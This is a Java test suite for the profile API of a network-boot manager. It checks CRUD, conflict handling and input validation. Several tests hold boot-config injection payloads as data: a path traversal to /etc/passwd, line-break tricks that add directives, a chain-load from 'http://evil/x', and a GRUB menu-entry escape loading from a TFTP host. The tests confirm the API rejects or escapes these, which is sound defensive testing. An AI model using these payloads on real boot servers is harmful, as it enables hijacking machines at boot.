package dev.bootkeeper.api;

import static dev.bootkeeper.api.ApiTestSupport.admin;
import static dev.bootkeeper.api.ApiTestSupport.unique;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

@QuarkusTest
class ProfileResourceTest {

  static Map<String, Object> linux(String name) {
    return Map.of(
        "name", name,
        "kind", "linux",
        "kernel", "debian/vmlinuz",
        "initrds", List.of("debian/initrd.img"),
        "cmdline", "console=ttyS0 token=abc");
  }

  @Test
  void createsReadsUpdatesAndDeletesAProfile() {
    String name = unique("deb");
    admin()
        .body(linux(name))
        .post("/api/v1/profiles")
        .then()
        .statusCode(201)
        .header("Location", containsString("/api/v1/profiles/" + name))
        .body("kind", equalTo("linux"))
        .body("initrds[0]", equalTo("debian/initrd.img"));
    given()
        .get("/api/v1/profiles/" + name)
        .then()
        .statusCode(200)
        .body("cmdline", equalTo("console=ttyS0 token=abc"));
    given().get("/api/v1/profiles").then().statusCode(200).body("name", hasItem(name));
    admin()
        .body(Map.of("kind", "linux", "kernel", "debian/vmlinuz2", "cmdline", "quiet"))
        .put("/api/v1/profiles/" + name)
        .then()
        .statusCode(200)
        .body("kernel", equalTo("debian/vmlinuz2"))
        .body("name", equalTo(name));
    admin().delete("/api/v1/profiles/" + name).then().statusCode(204);
    given()
        .get("/api/v1/profiles/" + name)
        .then()
        .statusCode(404)
        .contentType("application/problem+json");
  }

  @Test
  void duplicateNameIsAConflict() {
    String name = unique("dup");
    admin().body(linux(name)).post("/api/v1/profiles").then().statusCode(201);
    admin()
        .body(linux(name))
        .post("/api/v1/profiles")
        .then()
        .statusCode(409)
        .contentType("application/problem+json")
        .body("detail", containsString("already exists"));
  }

  @Test
  void refusesBadInputWithAMessageThatSaysWhatWasWrong() {
    admin()
        .body(
            Map.of(
                "name", unique("nl"), "kind", "linux", "kernel", "k", "cmdline", "a\nDEFAULT evil"))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .contentType("application/problem+json")
        .body("detail", containsString("cmdline contains a line break"));
    admin()
        .body(Map.of("name", unique("ctl"), "kind", "linux", "kernel", "k\u0007"))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .body("detail", containsString("kernel contains a control character"));
    admin()
        .body(Map.of("name", unique("trav"), "kind", "linux", "kernel", "../../etc/passwd"))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .body("detail", containsString("not a path under the images directory"));
    admin()
        .body(Map.of("name", unique("kind"), "kind", "floppy"))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .body("detail", containsString("kind 'floppy' is not one of"));
    admin()
        .body(Map.of("name", unique("nok"), "kind", "linux"))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .body("detail", containsString("needs a kernel"));
    admin()
        .body(Map.of("name", "bad name!", "kind", "local"))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .body("detail", containsString("may only hold"));
    admin()
        .body("{not json")
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .contentType("application/problem+json");
    admin()
        .body(
            Map.of(
                "name",
                unique("tpl"),
                "kind",
                "local",
                "templates",
                Map.of("ipxe", "{#if x}unclosed")))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .body("detail", containsString("templates.ipxe does not parse"));
  }

  @Test
  void deleteIsRefusedWhileAHostUsesTheProfile() {
    String name = unique("used");
    admin().body(linux(name)).post("/api/v1/profiles").then().statusCode(201);
    String mac = ApiTestSupport.uniqueMac();
    admin().body(Map.of("profile", name)).put("/api/v1/hosts/" + mac).then().statusCode(201);
    admin()
        .delete("/api/v1/profiles/" + name)
        .then()
        .statusCode(409)
        .body("detail", containsString("used by 1 host"));
    admin().delete("/api/v1/hosts/" + mac).then().statusCode(204);
    admin().delete("/api/v1/profiles/" + name).then().statusCode(204);
  }

  @Test
  void theBuiltInDefaultCannotBeDeleted() {
    admin()
        .delete("/api/v1/profiles/local-disk")
        .then()
        .statusCode(409)
        .body("detail", containsString("default profile"));
  }

  static Map<String, Object> withField(String name, String field, Object value) {
    Map<String, Object> m = new java.util.HashMap<>(linux(name));
    m.put(field, value);
    return m;
  }

  @Test
  void refusesValuesThatWouldAddADirectiveNamingTheField() {
    Object[][] cases = {
      {"kernel", "debian/vmlinuz initrd=evil", "kernel 'debian/vmlinuz initrd=evil' holds a space"},
      {"initrds", List.of("debian/initrd.img,evil.img"), "initrds[0] 'debian/initrd.img,evil.img'"},
      {"cmdline", "quiet\u2028DEFAULT evil", "cmdline contains a line break"},
      {"cmdline", "quiet\u0085DEFAULT evil", "cmdline contains a line break"},
      {"description", "Rescue\u2029MENU evil", "description contains a line break"},
      {"cmdline", "quiet || chain http://evil/x", "cmdline holds the word '||'"},
      {"cmdline", "quiet \u009b", "cmdline contains a control character"},
    };
    for (Object[] c : cases) {
      admin()
          .body(withField(unique("inj"), (String) c[0], c[1]))
          .post("/api/v1/profiles")
          .then()
          .statusCode(400)
          .contentType("application/problem+json")
          .body("detail", containsString((String) c[2]));
    }
  }

  @Test
  void aQuoteInTheDescriptionStaysInTheGrubMenuTitle() {
    String name = unique("quote");
    Map<String, Object> profile =
        withField(name, "description", "Rescue' { linux (tftp,6.6.6.6)/evil; boot; } menuentry 'x");
    admin().body(profile).post("/api/v1/profiles").then().statusCode(201);
    String mac = ApiTestSupport.uniqueMac();
    admin().body(Map.of("profile", name)).put("/api/v1/hosts/" + mac).then().statusCode(201);
    String grub =
        given()
            .queryParam("format", "grub")
            .get("/api/v1/hosts/" + mac + "/boot")
            .then()
            .statusCode(200)
            .extract()
            .asString();
    assertTrue(
        grub.contains(
            "\nmenuentry 'Rescue'\\'' { linux (tftp,6.6.6.6)/evil; boot; } menuentry '\\''x' {\n"),
        grub);
    assertEquals(1, grub.lines().filter(l -> l.startsWith("menuentry")).count(), grub);
  }

  @Test
  void refusesACustomTemplateThatDoesNotRenderAtSave() {
    admin()
        .body(
            Map.of(
                "name", unique("tplkey"),
                "kind", "local",
                "templates", Map.of("ipxe", "#!ipxe\n{nothere.foo}\n")))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .contentType("application/problem+json")
        .body("detail", containsString("templates.ipxe does not render for a sample client"))
        .body("detail", containsString("nothere"));
  }

  @Test
  void refusesACustomTemplateWhoseOutputIsTooLarge() {
    admin()
        .body(
            Map.of(
                "name", unique("tplbig"),
                "kind", "local",
                "templates", Map.of("pxelinux", "{#for i in 1000000}0123456789abcdef{/for}")))
        .post("/api/v1/profiles")
        .then()
        .statusCode(400)
        .body("detail", containsString("templates.pxelinux does not render"))
        .body("detail", containsString("larger than 65536 bytes"));
  }
}
